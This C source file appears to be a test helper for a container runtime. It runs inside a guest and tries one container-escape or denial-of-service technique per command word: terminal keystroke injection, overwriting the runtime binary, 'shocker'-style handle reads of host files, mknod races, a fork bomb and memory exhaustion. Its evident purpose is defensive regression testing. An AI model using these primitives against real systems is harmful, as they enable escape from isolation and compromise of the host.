/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * What an attacker brings into a guest, and what stands in for the other side when a layer is off: a static program with one
 * word for each thing to try. It prints what came of it, a word or the name of an error, and says by its exit code whether the
 * way was open (0) or closed (1).
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int told(const char *what, int failed)
{
	puts(failed ? strerrorname_np(errno) : what);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}

/* A character put into the terminal, as if it were typed there. */
static int tiocsti(char **argv)
{
	return told("typed", ioctl(STDIN_FILENO, TIOCSTI, argv[0]) < 0);
}

/* ioctl(0, REQUEST, "x") with all 64 bits of REQUEST: the kernel looks at the low half only. */
static int wide_ioctl(char **argv)
{
	return told("typed", syscall(SYS_ioctl, STDIN_FILENO, strtoul(argv[0], NULL, 16), "x") < 0);
}

static int add_key(char **argv)
{
	return told("added", syscall(SYS_add_key, "user", argv[0], "secret", 6L, KEY_SPEC_SESSION_KEYRING) < 0);
}

/* In whatever session keyring we have been left with. */
static int find_key(char **argv)
{
	return told("found", syscall(SYS_request_key, "user", argv[0], NULL, 0L) < 0);
}

/* A session keyring of our own with the key in it, then the program. */
static int with_key(char **argv)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
	    syscall(SYS_add_key, "user", argv[0], "secret", 6L, KEY_SPEC_SESSION_KEYRING) < 0)
		return told("", 1);
	execvp(argv[1], argv + 1);
	return told("", 1);
}

/* A process of the host that joins the container as lx-attach does, and makes itself dumpable: the layer is off. */
static int join(char **argv)
{
	int pidfd = (int)syscall(SYS_pidfd_open, atoi(argv[0]), 0);
	pid_t pid;

	if (pidfd < 0 || setns(pidfd, CLONE_NEWUSER | CLONE_NEWPID | CLONE_NEWNS) < 0)
		return told("", 1);
	pid = fork();
	if (pid == 0) {
		if (setresgid(0, 0, 0) < 0 || setresuid(0, 0, 0) < 0)
			_exit(EXIT_FAILURE);
		(void)prctl(PR_SET_DUMPABLE, 1);
		(void)prctl(PR_SET_NAME, "joined");
		sleep((unsigned)atoi(argv[1]));
		_exit(EXIT_SUCCESS);
	}
	(void)waitpid(pid, NULL, 0);
	return EXIT_SUCCESS;
}

/* Looks behind process pid: its program is readable to us and not the guest's own, or it lets itself be traced. */
static int look_behind(int pid)
{
	char path[64], link[256];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, link, sizeof(link) - 1);
	if (n <= 0)
		return 0;
	link[n] = 0;
	if (strstr(link, "busybox") || strstr(link, "payload-inside"))
		return 0;
	printf("saw %s\n", link);
	return 1;
}

/* Every process that appears, for so many seconds. */
static int hunt(char **argv)
{
	time_t end = time(NULL) + atoi(argv[0]);
	int newest = getpid();

	while (time(NULL) < end)
		for (int pid = 2; pid < newest + 64; pid++) {
			if (pid == getpid() || kill(pid, 0) < 0)
				continue;
			newest = pid > newest ? pid : newest;
			if (look_behind(pid))
				return EXIT_SUCCESS;
		}
	puts("saw nothing");
	return EXIT_FAILURE;
}

/* Opens the file behind a descriptor once more, for writing, while its program comes to an end. */
static int overwrite(char **argv)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", atoi(argv[0]));
	for (int i = 0; i < 100; i++) {
		int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);

		if (fd >= 0)
			return told("overwritten", write(fd, "#owned\n", 7) != 7);
		if (errno != ETXTBSY)
			break;
		usleep(10000);
	}
	return told("", 1);
}

/* As overwrite, in the background, with the answer in a file: what the loader of this directory executes. */
static int overwrite_later(char **argv)
{
	if (getpid() != 1 && fork() > 0) /* the end of an init is the end of all */
		return EXIT_SUCCESS;
	(void)setsid();
	for (int fd = 0; fd < 3; fd++)
		close(fd);
	if (open("/dev/null", O_RDWR) < 0 || !freopen("/tmp/overwrite.new", "w", stdout))
		return EXIT_FAILURE;
	(void)overwrite(argv);
	fclose(stdout);
	return rename("/tmp/overwrite.new", "/tmp/overwrite") < 0;
}

static int connect_to(const char *path, int type)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);

	snprintf(address.sun_path, sizeof(address.sun_path), "%s", path);
	return fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0 ? -1 : fd;
}

static socklen_t abstract_address(const char *name, struct sockaddr_un *ret)
{
	ret->sun_family = AF_UNIX;
	snprintf(ret->sun_path + 1, sizeof(ret->sun_path) - 1, "%s", name);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

/* abstract-listen NAME SECONDS: a service of the host on a socket that has no file, such as X11's or an old D-Bus. */
static int listen_abstract(char **argv)
{
	struct sockaddr_un address = { 0 };
	socklen_t size = abstract_address(argv[0], &address);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || bind(fd, (struct sockaddr *)&address, size) < 0 || listen(fd, 8) < 0)
		return told("", 1);
	puts("listening");
	fflush(stdout);
	sleep((unsigned)atoi(argv[1]));
	return EXIT_SUCCESS;
}

static int connect_abstract(char **argv)
{
	struct sockaddr_un address = { 0 };
	socklen_t size = abstract_address(argv[0], &address);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	return told("connected", fd < 0 || connect(fd, (struct sockaddr *)&address, size) < 0);
}

union handle {
	struct file_handle head;
	char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static unsigned char *handle_bytes(union handle *handle)
{
	return (unsigned char *)handle->space + offsetof(struct file_handle, f_handle);
}

/* handle FILE: its file handle, the type and hexadecimal digits. */
static int show_handle(char **argv)
{
	union handle handle = { .head.handle_bytes = MAX_HANDLE_SZ };
	int mount;

	if (name_to_handle_at(AT_FDCWD, argv[0], &handle.head, &mount, 0) < 0)
		return told("", 1);
	printf("%d ", handle.head.handle_type);
	for (unsigned i = 0; i < handle.head.handle_bytes; i++)
		printf("%02x", handle_bytes(&handle)[i]);
	puts("");
	return EXIT_SUCCESS;
}

/* open-handle PLACE TYPE DIGITS: reads a file of the file system that PLACE is on, past all directories (shocker). */
static int open_handle(char **argv)
{
	union handle handle = { .head.handle_type = atoi(argv[1]) };
	int place = open(argv[0], O_RDONLY | O_CLOEXEC), fd;
	char text[256];
	ssize_t n;

	for (const char *p = argv[2]; handle.head.handle_bytes < MAX_HANDLE_SZ; p += 2)
		if (sscanf(p, "%2hhx", handle_bytes(&handle) + handle.head.handle_bytes) == 1)
			handle.head.handle_bytes++;
		else
			break;
	fd = place < 0 ? -1 : open_by_handle_at(place, &handle.head, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
	if (n < 0)
		return told("", 1);
	fwrite(text, 1, (size_t)n, stdout);
	return EXIT_SUCCESS;
}

/* swap A B SECONDS: exchanges two names without a pause. */
static int swap_names(char **argv)
{
	time_t end = time(NULL) + atoi(argv[2]);
	long n = 0;

	do
		if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2L /* RENAME_EXCHANGE */) < 0)
			return told("", 1);
	while (++n % 64 || time(NULL) < end);
	return EXIT_SUCCESS;
}

/* deep N: directories within each other, deeper than any path is long. */
static int make_deep(char **argv)
{
	for (int i = 0; i < atoi(argv[0]); i++)
		if (mkdir("d", 0755) < 0 || chdir("d") < 0)
			return told("", 1);
	puts("made");
	return EXIT_SUCCESS;
}

/* notify TEXT [N]: a datagram to the notify socket, with N descriptors. */
static int notify(char **argv)
{
	int n = argv[1] ? atoi(argv[1]) : 0, fd = connect_to("/run/host/notify", SOCK_DGRAM);
	union {
		struct cmsghdr header;
		char space[CMSG_SPACE(250 * sizeof(int))];
	} control = { 0 };
	struct iovec text = { argv[0], strlen(argv[0]) };
	struct msghdr message = { .msg_iov = &text, .msg_iovlen = 1 };

	if (fd < 0)
		return told("", 1);
	if (n > 0) {
		message.msg_control = &control;
		message.msg_controllen = CMSG_SPACE((size_t)n * sizeof(int));
		control.header.cmsg_level = SOL_SOCKET;
		control.header.cmsg_type = SCM_RIGHTS;
		control.header.cmsg_len = CMSG_LEN((size_t)n * sizeof(int));
		for (int i = 0; i < n; i++)
			memcpy(CMSG_DATA(&control.header) + (size_t)i * sizeof(int), &fd, sizeof(fd));
	}
	return told("sent", sendmsg(fd, &message, MSG_NOSIGNAL) < 0);
}

/* init MESSAGE: as first process, reports it itself and stays. */
__attribute__((noreturn)) static int be_init(char **argv)
{
	(void)notify(argv);
	for (;;)
		pause();
}

/* connect PATH N SECONDS: N connections to a monitor's socket, kept. */
static int keep_connections(char **argv)
{
	int n = atoi(argv[1]), made = 0;

	while (made < n && connect_to(argv[0], SOCK_SEQPACKET) >= 0)
		made++;
	printf("connected %d\n", made);
	fflush(stdout);
	sleep((unsigned)atoi(argv[2]));
	return made == n ? EXIT_SUCCESS : EXIT_FAILURE;
}

/* garbage PATH: messages of sizes around every bound, and headers that lie. Nothing is to come back but an end or an error. */
static int garbage(char **argv)
{
	static const unsigned sizes[] = { 0, 1, 11, 12, 13, 4096, 65536, 262144, 262156, 300000 };
	static const unsigned headers[][3] = {
		{ 0x316d786c, 0x00010001, 0xffffffff }, { 0x316d786c, 0x00010002, 0x7fffffff }, { 0x316d786c, 0xffff0001, 4 },
		{ 0, 0, 0 },				{ 0x316d786c, 0x00030001, 300000 },	{ 0x316d786c, 0x00010001, 5 },
	};
	char *bytes = calloc(1, 300000);
	int sent = 0;

	if (!bytes)
		return EXIT_FAILURE;
	for (size_t h = 0; h < sizeof(headers) / sizeof(*headers); h++)
		for (size_t s = 0; s < sizeof(sizes) / sizeof(*sizes); s++) {
			int fd = connect_to(argv[0], SOCK_SEQPACKET), size = 1 << 20;

			if (fd < 0)
				return told("", 1);
			(void)setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &size, sizeof(size));
			memcpy(bytes, headers[h], sizeof(headers[h]));
			if (send(fd, bytes, sizes[s], MSG_NOSIGNAL) >= 0)
				sent++;
			close(fd);
		}
	free(bytes);
	printf("sent %d\n", sent);
	return EXIT_SUCCESS;
}

/* as UID PROGRAM...: an unprivileged user of the host. */
static int as_user(char **argv)
{
	uid_t uid = (uid_t)atoi(argv[0]);

	if (setresgid(uid, uid, uid) < 0 || setresuid(uid, uid, uid) < 0)
		return told("", 1);
	execvp(argv[1], argv + 1);
	return told("", 1);
}

/* Processes until no more can be made. */
static int fork_bomb(char **argv)
{
	int n = 0, limit = atoi(argv[0]);
	pid_t pid = 0;

	while (n < limit && (pid = fork()) > 0)
		n++;
	if (pid == 0) {
		sleep(60);
		_exit(0);
	}
	printf("forked %d\n", n);
	fflush(stdout);
	for (int i = 0; i < n; i++)
		(void)kill(0, 0);
	return n == limit ? EXIT_SUCCESS : EXIT_FAILURE;
}

/* Memory, touched, in MiB. */
static int eat(char **argv)
{
	for (int i = 0; i < atoi(argv[0]); i++) {
		char *p = malloc(1 << 20);

		if (!p)
			return told("", 1);
		memset(p, 1, 1 << 20);
	}
	puts("ate");
	return EXIT_SUCCESS;
}

static int open_files(char **argv)
{
	int n = 0, limit = atoi(argv[0]);

	while (n < limit && open("/dev/null", O_RDONLY) >= 0)
		n++;
	printf("opened %d\n", n);
	return n == limit ? EXIT_SUCCESS : EXIT_FAILURE;
}

/* A node of null, named relative to a directory that this process has open. */
static int node_at(char **argv)
{
	int fd = open(argv[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	return told("made", fd < 0 || mknodat(fd, argv[1], S_IFCHR | 0666, makedev(1, 3)) < 0);
}

/* Relative to descriptors that this process does not have, but another one that acts for it may. */
static int node_at_any(char **argv)
{
	int made = 0;

	for (int fd = 3; fd < 200; fd++)
		made += mknodat(fd, argv[0], S_IFCHR | 0666, makedev(1, 3)) == 0;
	printf("made %d\n", made);
	return made ? EXIT_SUCCESS : EXIT_FAILURE;
}

/* Nodes in DIRECTORY, where one process changes the name in memory meanwhile, and another what stands at "flip": a directory,
 * or the link that is there. */
static int node_race(char **argv)
{
	char *name = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid_t writer, mover;

	if (chdir(argv[0]) < 0 || name == MAP_FAILED)
		return told("", 1);
	strcpy(name, "safe/null");
	writer = fork();
	while (writer == 0) {
		memcpy(name, "flip/null", 9);
		memcpy(name, "link/null", 9);
		memset(name, '/', 4095);
		memcpy(name, "safe/null", 10);
	}
	mover = fork();
	while (mover == 0) {
		rename("flip", "was");
		rename("link", "flip");
		rename("flip", "link");
		rename("was", "flip");
	}
	for (int i = 0; i < 100; i++) {
		(void)mknod(name, S_IFCHR | 0666, makedev(1, 3));
		(void)umount2("safe/null", MNT_DETACH);
		(void)umount2("flip/null", MNT_DETACH);
		(void)unlink("safe/null");
		(void)unlink("flip/null");
	}
	kill(writer, SIGKILL);
	kill(mover, SIGKILL);
	puts("raced");
	return EXIT_SUCCESS;
}

/* A file system that never answers, mounted on DIRECTORY for as long as this process lives. */
static int silent_mount(char **argv)
{
	int fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	char options[128];

	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", fd);
	if (fd < 0 || mount("silent", argv[0], "fuse", 0, options) < 0)
		return told("", 1);
	puts("mounted");
	fflush(stdout);
	pause();
	return EXIT_SUCCESS;
}

/* Callers that are gone before they have their answer. */
static int node_die(char **argv)
{
	char name[4096];

	for (int i = 0; i < 100; i++) {
		pid_t pid = fork();

		snprintf(name, sizeof(name), "%s/%d", argv[0], i);
		if (pid == 0) {
			(void)mknod(name, S_IFCHR | 0666, makedev(1, 3));
			_exit(0);
		}
		usleep((useconds_t)i * 40);
		kill(pid, SIGKILL);
		(void)waitpid(pid, NULL, 0);
	}
	puts("died");
	return EXIT_SUCCESS;
}

static const struct {
	const char *name;
	int n_args;
	int (*run)(char **argv);
} words[] = {
	{ "node-at", 2, node_at },     { "node-at-any", 1, node_at_any },
	{ "node-race", 1, node_race }, { "node-die", 1, node_die },
	{ "silent-mount", 1, silent_mount },
	{ "tiocsti", 1, tiocsti },     { "add-key", 1, add_key },	      { "find-key", 1, find_key },
	{ "with-key", 2, with_key },   { "join", 2, join },		      { "hunt", 1, hunt },
	{ "overwrite", 1, overwrite }, { "overwrite-later", 1, overwrite_later }, { "notify", 1, notify },
	{ "init", 1, be_init },	       { "connect", 3, keep_connections },      { "garbage", 1, garbage },
	{ "as", 2, as_user },	       { "fork", 1, fork_bomb },	      { "eat", 1, eat },
	{ "open", 1, open_files },     { "ioctl", 1, wide_ioctl },	      { "abstract-listen", 2, listen_abstract },
	{ "handle", 1, show_handle },  { "open-handle", 3, open_handle },     { "abstract-connect", 1, connect_abstract },
	{ "swap", 3, swap_names },     { "deep", 1, make_deep },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(words) / sizeof(*words); i++)
		if (strcmp(words[i].name, argv[1]) == 0 && argc - 2 >= words[i].n_args)
			return words[i].run(argv + 2);
	fprintf(stderr, "payload: not a word of mine\n");
	return 2;
}
